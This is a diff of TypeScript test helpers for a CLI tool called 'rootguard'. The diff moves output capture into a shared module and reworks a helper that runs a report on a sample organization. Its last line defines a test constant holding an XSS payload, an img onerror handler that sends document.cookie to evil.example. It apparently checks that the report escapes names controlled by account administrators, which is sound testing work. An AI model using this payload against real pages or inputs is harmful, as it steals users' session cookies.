@@ -11,6 +11,7 @@ import {
   type RuleEvaluationRecord,
 } from '../../report/kpi';
 import { resolvePeriod } from '../../report/period';
+import { argv, captureIo } from './cli-io';
 
 let sequence = 0;
 
@@ -97,49 +98,24 @@ export function reportInput(overrides: Partial<ReportInput> = {}): ReportInput {
   };
 }
 
-/** A CliIo that keeps what the command printed. */
-export function captureCliIo(extra: Partial<CliIo> = {}): CliIo & { out: () => string; err: () => string } {
-  let out = '';
-  let err = '';
-  return {
-    stdout: (text) => {
-      out += text;
-    },
-    stderr: (text) => {
-      err += text;
-    },
-    color: false,
-    ...extra,
-    out: () => out,
-    err: () => err,
-  };
-}
-
 export const REPO_ROOT = join(__dirname, '..', '..');
 export const SAMPLE_ORG = join(REPO_ROOT, 'examples', 'sample-org.json');
 export const SAMPLE_LEDGER = join(REPO_ROOT, 'examples', 'sample-ledger.jsonl');
 
-/** `rootguard report` of the sample organization into `outDir`; returns the exit code and what it printed. */
-export async function reportSampleOrg(outDir: string, ...extra: string[]) {
-  const io = captureCliIo();
-  const code = await run(
-    [
-      'node',
-      'rootguard',
-      'report',
-      // Relative, as a user types them: the report shows its sources as given.
-      '--facts',
-      relative(process.cwd(), SAMPLE_ORG),
-      '--ledger',
-      relative(process.cwd(), SAMPLE_LEDGER),
-      '--out',
-      outDir,
-      ...extra,
-    ],
-    io,
-  );
-  return { code, io };
+/**
+ * `rootguard report --facts <the sample organization> ...args` (its root activity source, --out, options);
+ * `io` adds test I/O such as the live reads. Returns the exit code and what it printed.
+ */
+export async function reportSampleFacts(args: string[], io: Partial<CliIo> = {}) {
+  const captured = captureIo(io);
+  // Relative, as a user types them: the report shows its sources as given.
+  const code = await run(argv('report', '--facts', relative(process.cwd(), SAMPLE_ORG), ...args), captured);
+  return { code, io: captured };
 }
+
+/** `rootguard report` of the sample organization and its ledger export into `outDir`. */
+export const reportSampleOrg = (outDir: string, ...extra: string[]) =>
+  reportSampleFacts(['--ledger', relative(process.cwd(), SAMPLE_LEDGER), '--out', outDir, ...extra]);
 
 /** What a member account's administrator controls: his account's name, its OU's name, annotations, user agents. */
 export const HOSTILE_NAME = '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">';
